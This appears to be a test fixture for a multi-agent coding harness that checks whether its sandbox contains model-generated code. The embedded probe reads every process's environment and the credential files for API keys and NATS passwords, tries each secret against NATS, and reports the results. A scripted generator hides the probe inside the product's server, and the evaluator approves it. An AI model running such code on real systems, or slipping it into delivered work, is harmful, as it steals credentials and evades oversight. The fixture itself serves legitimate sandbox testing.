import { createServer, type Server } from "node:net";
import type { SprintContract } from "@harness/contracts";
import type { Rule, Script, ScriptRequest, StaticReply } from "@harness/scripted-model";
import { tinySpec } from "./tiny-program.js";

/*
 * A probe that does what generated code after credentials would: read every /proc/<pid>/environ,
 * every credential file it can find (the data folder's nats-auth, token, stack.json, anything named
 * *.password it can list), and try to connect to NATS with each secret as each role's password,
 * and anonymously. It proves it ran twice over: it writes its report to a marker folder the test
 * reads, and sends it to a loopback listener the test owns. A sandbox that kills or silences it
 * therefore fails the test instead of passing it.
 */

export interface ProbeTarget {
  label: string;
  /** Folders whose files it reads (the data folder, the test kit's credentials). */
  credentialDirs: string[];
  natsPort: number;
  /** A folder the test made writable by anyone (1777). */
  markerDir: string;
  listenerPort: number;
}

export interface ProbeReport {
  label: string;
  uid: number;
  procs: number;
  environsRead: number;
  found: Array<{ where: string; text: string }>;
  attempts: Array<{ user: string | null; ok: boolean; reply: string }>;
}

const USERS = ["supervisor", "planner", "generator", "evaluator"];

/** The probe's source (CommonJS, no dependencies); `then` runs after it reported (the app server). */
export function probeSource(t: ProbeTarget, then = ""): string {
  return `"use strict";
const fs = require("node:fs"), net = require("node:net"), path = require("node:path");
const T = ${JSON.stringify({ ...t, users: USERS })};
const read = (p) => { try { return fs.readFileSync(p, "utf8"); } catch { return null; } };
const found = [];
let procs = 0, environsRead = 0;
for (const pid of fs.readdirSync("/proc").filter((n) => /^\\d+$/.test(n))) {
  procs++;
  const env = read("/proc/" + pid + "/environ");
  if (env === null) continue;
  environsRead++;
  for (const kv of env.split("\\0")) {
    const eq = kv.indexOf("=");
    if (eq > 0 && /^(NATS_PASSWORD|NATS_TOKEN|ANTHROPIC_API_KEY|HARNESS_API_TOKEN)/.test(kv)) found.push({ where: "/proc/" + pid + "/environ", text: kv.slice(eq + 1) });
  }
}
const files = new Set();
const walk = (dir, depth) => {
  let names = [];
  try { names = fs.readdirSync(dir); } catch { return; }
  for (const n of names) {
    const p = path.join(dir, n);
    let st; try { st = fs.lstatSync(p); } catch { continue; }
    if (st.isDirectory() && depth > 0) walk(p, depth - 1);
    else if (st.isFile()) files.add(p);
  }
};
for (const d of T.credentialDirs) {
  walk(d, 2);
  for (const f of ["token", "stack.json", "nats-auth/server.conf", ...T.users.map((u) => "nats-auth/" + u + ".password"), ...T.users.map((u) => u + ".password")]) files.add(path.join(d, f));
}
for (const f of files) {
  const text = read(f);
  if (text === null || text.trim() === "" || f.includes("/nats/")) continue;
  for (const m of text.matchAll(/password:\\s*"?([A-Za-z0-9]{8,})/g)) found.push({ where: f, text: m[1] });
  found.push({ where: f, text: text.trim().slice(0, 4096) });
}
const tryNats = (user, pass) => new Promise((resolve) => {
  const s = net.connect(T.natsPort, "127.0.0.1");
  let buf = "";
  const done = (ok, reply) => { s.destroy(); resolve({ user, ok, reply }); };
  s.setTimeout(3000, () => done(false, "timeout: " + buf.slice(0, 200)));
  s.on("error", (e) => done(false, "error: " + e.message));
  s.on("data", (d) => {
    buf += d.toString();
    if (buf.startsWith("INFO") && buf.includes("\\r\\n") && !s.sent) {
      s.sent = true;
      const auth = user === null ? {} : { user, pass };
      s.write("CONNECT " + JSON.stringify({ verbose: false, pedantic: false, protocol: 1, ...auth }) + "\\r\\nPING\\r\\n");
    }
    if (buf.includes("PONG")) done(true, "PONG");
    else if (buf.includes("-ERR")) done(false, buf.slice(buf.indexOf("-ERR"), buf.indexOf("-ERR") + 80).trim());
  });
});
(async () => {
  const attempts = [await tryNats(null, null)];
  for (const f of found) for (const u of T.users) attempts.push(await tryNats(u, f.text.split("\\n")[0]));
  const report = JSON.stringify({ label: T.label, uid: process.getuid(), procs, environsRead, found, attempts });
  // One file per run: a product started again (final acceptance) runs as another workspace's uid.
  fs.writeFileSync(path.join(T.markerDir, T.label + "." + process.pid + "." + Date.now() + ".json"), report);
  await new Promise((resolve) => {
    const s = net.connect(T.listenerPort, "127.0.0.1", () => s.end(report));
    s.on("close", resolve);
    s.on("error", resolve);
  });
  console.log("probe " + T.label + " reported: " + attempts.length + " NATS attempts");
  ${then}
})();
`;
}

/** A loopback listener that keeps the last report sent to it per label. */
export async function startReportListener(): Promise<{ port: number; reports: Map<string, ProbeReport>; close(): Promise<void> }> {
  const reports = new Map<string, ProbeReport>();
  const server: Server = createServer((socket) => {
    let text = "";
    socket.on("data", (d: Buffer) => { text += d.toString(); });
    socket.on("end", () => {
      try { const r = JSON.parse(text) as ProbeReport; reports.set(r.label, r); } catch { /* not a report */ }
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const address = server.address();
  const port = typeof address === "object" && address ? address.port : 0;
  return { port, reports, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

const LIB = "exports.add = (a, b) => a + b;\n";
const TEST = `const assert = require("node:assert");\nassert.strictEqual(require("./lib.js").add(2, 3), 5);\nconsole.log("all tests passed");\n`;
const SERVE = `require("node:http").createServer((req, res) => {
    const u = new URL(req.url, "http://x");
    if (u.pathname === "/api/sum") { res.setHeader("content-type", "application/json"); return res.end(JSON.stringify({ sum: require("./lib.js").add(Number(u.searchParams.get("a")), Number(u.searchParams.get("b"))) })); }
    res.statusCode = 404; res.end("no such page");
  }).listen(Number(process.env.PORT), "127.0.0.1");`;

function contract(): SprintContract {
  return {
    sprint: 1, summary: "add() with tests, served over HTTP",
    app: { startCommand: "node server.cjs", port: 3000, readinessPath: "/api/sum?a=1&b=1", readinessTimeoutMs: 30_000 },
    deliverables: [{ id: "D1", description: "add(a, b) in lib.js, served at /api/sum", featureIds: ["F1"] }],
    checks: [
      { id: "unit-tests", kind: "command", description: "the tests pass", command: "node test.js", deliverableIds: ["D1"], criterionIds: ["F1.1"], expectExitCode: 0, expectOutput: [{ stream: "stdout", contains: "all tests passed" }], timeoutMs: 30_000 },
      { id: "sum", kind: "http", description: "the API adds", method: "GET", path: "/api/sum?a=2&b=3", expectStatus: 200, json: [{ path: "$.sum", equals: 5 }], deliverableIds: ["D1"], criterionIds: ["F1.1"] },
    ],
  } as SprintContract;
}

/**
 * A one-sprint run whose build runs the probe as a model-run command, and whose product's
 * server runs it when the evaluator starts it. `target` is read when the model is asked, so the
 * ports can be known only after the stack started.
 */
export function probeScript(target: () => Omit<ProbeTarget, "label">): Script {
  const build = (req: ScriptRequest): StaticReply => {
    if (req.turn > 0) return { text: "built" };
    const t = target();
    return {
      toolUse: [
        { name: "write_file", input: { path: "lib.js", content: LIB } },
        { name: "write_file", input: { path: "test.js", content: TEST } },
        { name: "write_file", input: { path: "probe.cjs", content: probeSource({ ...t, label: "generator" }) } },
        { name: "write_file", input: { path: "server.cjs", content: probeSource({ ...t, label: "evaluator" }, SERVE) } },
        { name: "run_command", input: { command: "node probe.cjs" } },
      ],
    };
  };
  const rules: Rule[] = [
    { name: "plan", match: { role: "planner" }, reply: { toolUse: [{ name: "submit_spec", input: tinySpec("SandboxProbe", 1) }] } },
    { name: "contract", match: { role: "generator", toolChoice: "propose_contract" }, reply: { toolUse: [{ name: "propose_contract", input: contract() }] } },
    { name: "review", match: { role: "evaluator", toolChoice: "submit_review" }, reply: { toolUse: [{ name: "submit_review", input: { approved: true, changeRequests: [], comments: "the tests and the API prove it" } }] } },
    { name: "build", match: { role: "generator", hasTool: "write_file" }, reply: build },
  ];
  return rules;
}
